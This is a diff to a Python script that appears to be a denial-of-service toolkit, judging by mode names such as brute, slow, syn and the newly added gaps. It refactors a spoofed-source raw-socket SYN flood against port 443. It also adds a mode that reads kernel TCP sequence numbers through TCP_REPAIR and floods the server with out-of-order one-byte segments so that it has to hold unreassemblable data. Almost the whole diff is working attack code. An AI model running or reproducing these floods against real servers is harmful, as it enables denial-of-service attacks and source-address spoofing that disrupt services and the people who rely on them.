@@ -134,22 +134,60 @@ def requests(source, target):
     for_ever(one, 4)
 
 
+def raw():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+def segment(source, target, port, seq, ack, flags, payload=b''):
+    """A TCP segment to port 443 in its IP packet, made by hand."""
+    source, target = socket.inet_aton(source), socket.inet_aton(target)
+    tcp = struct.pack('>HHIIBBHHH', port, 443, seq % 2**32, ack, 0x50, flags, 60000, 0, 0) + payload
+    data = source + target + struct.pack('>BBH', 0, 6, len(tcp)) + tcp + bytes(len(tcp) % 2)
+    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    tcp = tcp[:16] + struct.pack('>H', ~total & 0xffff) + tcp[18:]
+    return struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target) + tcp
+
+
 def syn(source, target):
     """A thousand times a second the begin of a connection, from addresses that nobody has."""
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    to = socket.inet_aton(target)
+    s = raw()
     while True:
         for _ in range(20):
-            spoofed = socket.inet_aton(f'10.99.0.{random.randrange(100, 250)}')
-            tcp = struct.pack('>HHIIBBHHH', random.randrange(1024, 65536), 443, random.getrandbits(32), 0, 0x50, 2, 60000, 0, 0)
-            data = spoofed + to + struct.pack('>BBH', 0, 6, len(tcp)) + tcp
-            total = sum(struct.unpack(f'>{len(data) // 2}H', data))
-            while total >> 16:
-                total = (total & 0xffff) + (total >> 16)
-            tcp = tcp[:16] + struct.pack('>H', ~total & 0xffff) + tcp[18:]
-            raw.sendto(struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, spoofed, to) + tcp, (target, 0))
+            spoofed = f'10.99.0.{random.randrange(100, 250)}'
+            s.sendto(segment(spoofed, target, random.randrange(1024, 65536), random.getrandbits(32), 0, 2), (target, 0))
         time.sleep(0.02)
 
 
+TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, RECEIVE, SEND = 19, 20, 21, 1, 2       # linux/tcp.h
+
+
+def numbers(s):
+    """Of a connection of the build host's kernel: what it sends next, what it expects."""
+    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
+    found = []
+    for queue in (SEND, RECEIVE):
+        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
+        found.append(struct.unpack('I', s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))[0])
+    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
+    return found
+
+
+def gaps(source, target):
+    """Thirty connections that send all but the first byte: the server must hold the rest until that comes."""
+    out = raw()
+
+    def one(i):
+        with plain(source, target) as s:
+            port = s.getsockname()[1]
+            for _ in range(40):
+                seq, ack = numbers(s)
+                for k in range(23):
+                    out.sendto(segment(source, target, port, seq + 1 + 2 * k, ack, 16, b'x'), (target, 0))
+                time.sleep(0.2)
+    for_ever(one, 30)
+
+
 if __name__ == '__main__':
-    {f.__name__: f for f in (enrol, login, slow, brute, requests, syn)}[sys.argv[1]](*sys.argv[2:])
+    {f.__name__: f for f in (enrol, login, slow, brute, requests, syn, gaps)}[sys.argv[1]](*sys.argv[2:])
